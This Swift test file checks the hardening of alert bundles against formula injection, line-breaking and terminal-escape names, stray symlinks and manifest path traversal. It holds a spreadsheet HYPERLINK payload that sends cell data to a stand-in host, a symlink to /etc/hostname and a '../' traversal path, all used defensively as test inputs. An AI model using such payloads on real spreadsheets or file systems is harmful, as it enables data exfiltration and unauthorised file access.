import Alerting
import Foundation
import Publishing
import TestSupport
import XCTest

/// Issue 15: formula injection, names that break lines, and what `verify` must notice.
final class BundleHardeningTests: XCTestCase {
    static let hostileName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\nsecond line\u{1B}[2J"

    private func hostileBundle(in dir: URL) throws -> URL {
        let lc = AlertLifecycle(config: BundleFixture.config)
        let finding = Finding(subject: BundleFixture.enterprise, evidence: Evidence(
            rule: "mass_layoff", signal: "headcount", period: "2025-06", observed: 400, expected: 500, measure: 5,
            measureName: "multiples_of_legal_threshold", level: .orange, detail: "headcount fell by 100", detailZh: "减员100人"),
            enterpriseName: Self.hostileName)
        let alerts = lc.advance(previous: [], findings: [finding], asOf: "2025-06", sent: "2025-07-01T09:00:00+08:00").alerts
        let out = dir.appendingPathComponent("restricted")
        try BundleWriter.write(BundleFixture.run(alerts), audience: .restricted, to: out, signingKey: Curve25519PrivateKeyForTests.make(), capSigner: CAPSignerForTests.shared)
        return out
    }

    func testAFormulaInANameReachesTheCSVAsTextAndTheJSONExactly() throws {
        let b = try hostileBundle(in: try temporaryDirectory(self))
        let csv = try String(contentsOf: b.appendingPathComponent("alerts.csv"), encoding: .utf8)
        XCTAssertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\nsecond line\u{1B}[2J\","), csv)
        XCTAssertFalse(csv.contains(",\"=HYPERLINK"), "no field starts with a live formula")
        let line = try String(contentsOf: b.appendingPathComponent("alerts.jsonl"), encoding: .utf8).split(separator: "\n")[0]
        let json = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
        XCTAssertEqual(json["enterprise_name"] as? String, Self.hostileName)
        // The risk score is a number column: kept as a number.
        let header = csv.split(separator: "\n")[0].split(separator: ",").map(String.init)
        XCTAssertEqual(BundleWriter.csvHeader, header)
    }

    func testANewlineInANameDoesNotBreakSummaryLines() throws {
        let b = try hostileBundle(in: try temporaryDirectory(self))
        let summary = try String(contentsOf: b.appendingPathComponent("summary.txt"), encoding: .utf8)
        let items = summary.split(separator: "\n", omittingEmptySubsequences: false).filter { $0.hasPrefix("- [") }
        XCTAssertEqual(items.count, 1)
        XCTAssertFalse(summary.contains("\u{1B}"), "no terminal escape reaches the summary")
        XCTAssertTrue(summary.contains("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\\nsecond line\\u{1B}[2J"), summary)
    }

    func testVerifyRejectsAnyUnlistedFolderOrLink() throws {
        let dir = try temporaryDirectory(self)
        let b = try BundleFixture.write(in: dir)
        let pub = b.key.publicKey
        XCTAssertEqual(BundleVerifier.verify(bundle: b.restricted, publicKey: pub), [])
        let fm = FileManager.default
        try fm.createDirectory(at: b.restricted.appendingPathComponent("extra"), withIntermediateDirectories: true)
        try fm.createDirectory(at: b.restricted.appendingPathComponent("cap/nested"), withIntermediateDirectories: true)
        try fm.createSymbolicLink(atPath: b.restricted.appendingPathComponent("link").path, withDestinationPath: "/etc/hostname")
        XCTAssertEqual(BundleVerifier.verify(bundle: b.restricted, publicKey: pub).sorted(), [
            "cap/nested/: a folder the manifest does not list; expected only cap/",
            "extra/: a folder the manifest does not list; expected only cap/",
            "link: not a regular file (NSFileTypeSymbolicLink); a bundle holds only regular files",
        ])
    }
}

extension BundleHardeningTests {
    func testAManifestPathOutsideTheBundleIsRejected() throws {
        let dir = try temporaryDirectory(self)
        let b = try BundleFixture.write(in: dir)
        let url = b.public.appendingPathComponent("manifest.json")
        var m = try JSONDecoder().decode(Manifest.self, from: Data(contentsOf: url))
        m.outputs.append(Manifest.FileDigest(path: "../restricted/alerts.csv", sha256: String(repeating: "0", count: 64), bytes: 1))
        let bytes = try m.encoded()
        try bytes.write(to: url)
        try Data(Signing.sign(bytes, with: b.key).utf8).write(to: b.public.appendingPathComponent("manifest.sig"))
        XCTAssertEqual(BundleVerifier.verify(bundle: b.public, publicKey: b.key.publicKey),
                       ["../restricted/alerts.csv: listed in the manifest but not a plain relative path inside the bundle"])
    }
}
